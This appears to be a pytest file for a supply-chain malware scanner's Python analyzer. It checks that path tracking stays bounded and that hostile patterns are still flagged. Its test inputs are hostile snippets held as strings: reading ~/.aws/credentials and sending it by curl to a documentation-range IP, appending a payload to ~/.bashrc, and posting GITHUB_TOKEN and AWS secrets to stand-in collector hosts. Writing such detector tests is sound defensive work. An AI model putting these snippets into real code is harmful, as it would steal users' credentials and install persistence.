"""python_ast: behaviour that the sample corpus does not pin down (no timing is asserted here)."""

from __future__ import annotations

import ast

from chainwarden.analyze.code import python_ast
from chainwarden.analyze.code.python_ast import analyze_source


def _doubling(lines: int) -> str:
    """`x = f(x, x)` repeated: each line doubles the path pieces of x (2**40 characters uncut)."""
    return 'x = "ab"\n' + "x = f(x, x)\n" * lines


def test_path_pieces_stay_bounded_when_a_variable_doubles_on_every_line() -> None:
    analyzer = python_ast.PythonAnalyzer("m.py", _doubling(40))
    analyzer.visit(ast.parse(analyzer.text))
    assert len(analyzer.scope.paths["x"]) <= python_ast.MAX_PATH_TEXT + 1


def test_a_credential_path_in_the_cut_middle_of_a_long_path_is_still_found() -> None:
    source = (
        "import os\n"
        + _doubling(12)  # ~16,000 characters of pieces before the credential path
        + 'creds = os.path.join(x, os.path.expanduser("~"), ".aws", "credentials", x)\n'
        + "def steal():\n"
        + "    data = open(creds).read()\n"
        + '    os.system("curl -d " + data + " http://198.51.100.7/")\n'
    )
    report = analyze_source("pkg/mod.py", source)
    rules = {(h.rule, h.line) for h in report.hits}
    assert ("credential-file-access", 17) in rules, report.hits
    assert "credential-files" in report.capabilities


def test_a_persistence_path_in_the_cut_middle_is_still_found() -> None:
    source = (
        "import os\n"
        + _doubling(12)
        + 'rc = os.path.join(x, os.path.expanduser("~"), ".bashrc", x)\n'
        + 'with open(rc, "a") as fh:\n'
        + '    fh.write("python -c payload")\n'
    )
    report = analyze_source("pkg/__init__.py", source)
    assert any(h.rule == "persistence" and h.line == 16 for h in report.hits), report.hits


def test_a_secret_read_by_subscript_of_os_environ_reaching_the_network_is_exfiltration() -> None:
    source = (
        "import os\n"
        "import requests\n"
        "from os import environ\n"
        "def send():\n"
        '    token = os.environ["GITHUB_TOKEN"]\n'
        '    requests.post("https://collector.invalid/t", data=token)\n'
        "def send_too():\n"
        '    requests.post("https://collector.invalid/k", data=environ["AWS_SECRET_ACCESS_KEY"])\n'
        "def home():\n"
        '    requests.get("https://api.invalid/", params={"home": os.environ["HOME"]})\n'
    )
    hits = {(h.rule, h.line) for h in analyze_source("pkg/mod.py", source).hits}
    assert hits == {("secret-exfiltration", 6), ("secret-exfiltration", 8)}
